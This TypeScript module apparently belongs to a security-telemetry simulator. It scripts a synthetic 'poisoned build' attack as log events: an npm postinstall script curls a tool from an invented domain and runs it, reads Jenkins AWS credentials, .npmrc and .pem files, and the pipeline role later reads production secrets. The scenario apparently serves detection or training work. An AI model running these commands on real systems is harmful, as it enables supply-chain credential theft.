import { robotCaller } from "../cloud-caller.ts";
import type { CloudCaller } from "../cloud-caller.ts";
import { call } from "../events/cloudtrail-event.ts";
import { connect } from "../events/network-event.ts";
import { daemon, run } from "../events/process-event.ts";
import type { Process } from "../events/audit-event.ts";
import type { Host } from "../hosts.ts";
import { downloadPath, hiddenPath, inventedWord, strangeDomain } from "../props.ts";
import { strangerAddress } from "../routine/internet-noise.ts";
import { atHost, wait } from "../scene.ts";
import type { Scene, Script, Stage } from "../scene.ts";
import { HOUR_MS, MINUTE_MS } from "../../seeded/time.ts";
import { serviceAccount } from "../unix-account.ts";
import { STRANGE_CLIENTS } from "./key-abroad.ts";
import { revokeKey } from "./response.ts";
import { castingStage, factsOf, momentOf, tell } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

interface Cast {
  readonly host: Host;
  readonly package: string;
  readonly domain: string;
  readonly ip: string;
  readonly script: string;
  readonly tool: string;
  readonly by: CloudCaller;
}

const JENKINS = serviceAccount("jenkins");
const PACKAGES = "color-parse left-padder node-fetcher discordlib event-streamer yaml-loader".split(
  " ",
);

/** A package of a build runs a script of its own, and the pipeline's role is used from outside hours later. */
export function poisonedBuild(options: StoryOptions): Story {
  const { world, random, start } = options;
  const ip = strangerAddress(random);
  const robot = { role: "pipeline", ip, userAgent: random.pick(STRANGE_CLIENTS) };
  const cast: Cast = {
    host: random.pick(world.hostsOf("build")),
    package: `${random.pick(PACKAGES)}-${inventedWord(random)}`,
    domain: strangeDomain(random),
    ip,
    script: downloadPath(random),
    tool: hiddenPath(random),
    by: robotCaller(castingStage(options), robot),
  };
  const useAt = start + random.int(1, 14) * HOUR_MS + random.int(0, 50) * MINUTE_MS;
  const { host, tool, by } = cast;
  return tell(options, {
    id: "poisoned-build",
    kind: "attack",
    platforms: ["linux", "cloudtrail"],
    rootCause: `a build on ${host.name} installed ${cast.package}`,
    chapters: [
      {
        name: "install",
        start,
        deed: `a build on ${host.name} installed ${cast.package}, whose script started ${tool}`,
        facts: factsOf(["host", host.name], ["user", JENKINS.user], ["tool", tool]),
        perform: (stage) => install(stage, cast),
      },
      {
        name: "use",
        start: useAt,
        deed: `the role pipeline was used from ${ip} to read secrets`,
        facts: factsOf(
          ["address", ip],
          ["user", by.user],
          ["key", by.accessKey],
          ["time", momentOf(useAt)],
        ),
        perform: (stage) => useRole(stage, by),
      },
    ],
    response: revokeKey({ user: "pipeline" }),
  });
}

function* install(stage: Stage, cast: Cast): Script {
  const { host, package: name, domain, ip, script, tool } = cast;
  const scene = atHost(stage, host);
  const agent = daemon(scene, "/usr/lib/jvm/bin/java");
  const npm = yield* step(scene, { line: "npm ci --no-audit", parent: agent, isCause: true });
  wait(stage, 3000, 40_000);
  const line = `sh -c node node_modules/${name}/postinstall.js`;
  const shell = yield* step(scene, { line, parent: npm });
  const node = yield* step(scene, {
    line: `node node_modules/${name}/postinstall.js`,
    parent: shell,
  });
  const fetch = `curl -s https://${domain}${script} -o ${tool}`;
  const curl = yield* step(scene, { line: fetch, parent: node });
  const socket = { as: JENKINS, process: curl, argv: fetch.split(" "), parent: node };
  yield connect(scene, { ...socket, remote: { ip, port: 443, domain } });
  wait(stage, 200, 2000);
  const as = JENKINS;
  const dropped = yield* run(scene, { as, exe: tool, argv: [tool, "-q"], parent: node });
  for (const look of [
    "cat /var/lib/jenkins/.aws/credentials",
    "env",
    "cat /var/lib/jenkins/.npmrc",
    "find /var/lib/jenkins -name *.pem",
  ]) {
    wait(stage, 300, 4000);
    yield* step(scene, { line: look, parent: dropped });
  }
}

function* step(
  scene: Scene,
  { line, parent, isCause = false }: { line: string; parent: Process; isCause?: boolean },
): Script<Process> {
  const argv = line.split(" ");
  const exe = argv[0] === "sh" ? "/bin/sh" : `/usr/bin/${argv[0]}`;
  return yield* run(scene, { as: JENKINS, exe, argv, parent, isCause, cwd: "/var/lib/jenkins" });
}

function* useRole(stage: Stage, by: CloudCaller): Script {
  yield call(stage, { by, eventName: "GetCallerIdentity", service: "sts" });
  const names = stage.random.sample("db mail maps queue cache stripe sso search".split(" "), 6);
  for (const name of names) {
    wait(stage, 1000, 30_000);
    const request = { secretId: `prod/app/${name}` };
    yield call(stage, { by, eventName: "GetSecretValue", service: "secretsmanager", request });
  }
  for (const eventName of ["ListBuckets", "GetBucketLocation", "ListObjects"]) {
    wait(stage, 1000, 30_000);
    yield call(stage, { by, eventName, service: "s3" });
  }
}
